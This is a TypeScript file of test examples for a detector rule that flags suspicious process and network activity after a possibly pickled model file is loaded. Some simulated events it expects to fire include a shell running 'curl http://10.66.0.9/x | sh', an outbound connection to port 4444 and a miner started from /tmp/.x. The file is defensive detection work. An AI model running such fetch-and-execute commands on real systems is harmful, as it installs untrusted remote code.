/** Examples of STO-011: two lists, those that fire and those that stay quiet. */
import type { Example, ExampleEvent } from '../../../detect/detector.ts'
import type { Process } from '../../../proto/gen/events.ts'
import { childOf, exec, openPolicy, read } from '../example-stores.ts'
import { artifactPolicy, DAY_MS, server } from './example-artifacts.ts'

const load = (
  at_ms: number, process: Partial<Process> = server, path = '/data/llama/adapter.pt',
  store = 'llama',
): ExampleEvent => read(at_ms, process, store, 10, 1, { path })

function call(
  at_ms: number, process: Partial<Process>, remote_addr: string, remote_port = 443,
): ExampleEvent {
  return { kind: 'connection_open', at_ms, process, values: {
    direction: 'outgoing', local_addr: '10.30.0.7', local_port: 40_000 + at_ms % 1000, remote_addr,
    remote_port, protocol: 'tcp', connection_id: BigInt(at_ms + 1),
  } }
}
const sh = childOf(server, 711, '/bin/sh')
const curl = childOf(sh, 712, '/usr/bin/curl')
const worker = childOf(server, 713, '/usr/bin/python3')
const gcc = childOf(server, 714, '/usr/bin/gcc-12')

/** The same workload, loading every day, each time in a new pod. */
const daily = (days: number, then: (at: number, process: Partial<Process>) => ExampleEvent[]) =>
  Array.from({ length: days }, (_, i) => {
    const process = { ...server, pid: 1000 + i, start_time: BigInt(1000 + i) }
    const at = i * DAY_MS
    return [load(at, process, '/data/weights/a.bin', 'weights'), ...then(at + 2000, process)]
  }).flat()
/** Ten days later. */
const later = 10 * DAY_MS

const fires: Example[] = [
  {
    name: 'a shell and a download right after a pickle was loaded',
    policy: artifactPolicy,
    events: [exec(0, server, 'python3 serve.py'), load(1000), exec(3000, sh, ['sh', '-c',
      'curl http://10.66.0.9/x | sh']), exec(3100, curl, 'curl http://10.66.0.9/x')],
    fires: ['/usr/bin/python3 (pid 701, uid 1000, workload pod:serve/llm-0 on node-1) read '
      + '/data/llama/adapter.pt of the store llama, which may be a pickle, and 2 s later /bin/sh '
      + '(pid 711), which comes of it, started /bin/sh as "curl http://10.66.0.9/x | sh". Little',
    'started /usr/bin/curl as "curl http://10.66.0.9/x"'],
  },
  {
    name: 'a connection out of the zone that no flow allows',
    policy: artifactPolicy,
    events: [load(1000), call(4000, server, '203.0.113.9', 4444),
      call(5000, worker, '10.40.0.9', 22)],
    fires: ['3 s later it connected to 203.0.113.9:4444/tcp', 'connected to 10.40.0.9:22/tcp'],
  },
  {
    name: 'a program, and a place on the Internet, that never followed a load in ten days',
    policy: openPolicy,
    events: [
      ...daily(10, (at, process) => [
        exec(at, childOf(process, Math.round(2000 + at / DAY_MS), '/usr/bin/prepare'), 'prepare'),
        call(at + 10, process, '10.9.0.1')]),
      load(later, server, '/data/weights/b.bin', 'weights'),
      exec(later + 1000, childOf(server, 720, '/tmp/.x/miner'), 'miner'),
      call(later + 2000, server, '203.0.113.9'),
    ],
    fires: ['started /tmp/.x/miner as "miner". After a load its workload had not done so in 10 '
      + 'days and 11 loads that were seen', 'connected to 203.0.113.9:443/tcp'],
  },
]

const staysQuiet: Example[] = [
  {
    name: 'compilers, workers, looks at the machine, and what a flow allows',
    policy: artifactPolicy,
    events: [
      exec(0, server, 'python3 serve.py'), load(1000),
      exec(2000, worker, ['python3', '-c', 'from multiprocessing.spawn import spawn_main']),
      exec(2100, sh, ['sh', '-c', 'LC_ALL=C LANG=C /sbin/ldconfig -p 2>/dev/null']),
      exec(2200, childOf(sh, 715, '/usr/sbin/ldconfig'), 'ldconfig -p'),
      exec(2300, gcc, 'gcc -O3 /tmp/launcher.c -shared'),
      exec(2400, childOf(server, 716, '/usr/bin/nvidia-smi'), 'nvidia-smi -L'),
      call(2500, server, '10.40.0.9', 8443), call(2600, server, '10.30.0.8', 5000),
    ],
    fires: [],
  },
  {
    name: 'a shell that comes later, of another process, or after files that are no pickles',
    policy: artifactPolicy,
    events: [
      load(0), exec(120_000, sh, ['sh', '-c', 'curl http://10.66.0.9/x']),
      load(200_000, server, '/data/llama/model-1.safetensors'),
      exec(201_000, childOf(server, 717, '/bin/bash'), 'bash'),
      load(300_000, { ...server, pid: 730, start_time: 730n }),
      exec(301_000, childOf({ ...server, pid: 731, start_time: 731n }, 732, '/bin/bash'), 'bash'),
    ],
    fires: [],
  },
  {
    name: 'what a workload does after every load, and what is new in its first week',
    policy: openPolicy,
    events: [
      ...daily(12, (at, process) => [
        exec(at, childOf(process, Math.round(2000 + at / DAY_MS), '/usr/bin/prepare'), 'prepare'),
        call(at + 10, process, '203.0.113.9')]),
    ],
    fires: [],
  },
]

export const pickleLoadExamples = [fires, staysQuiet] as const
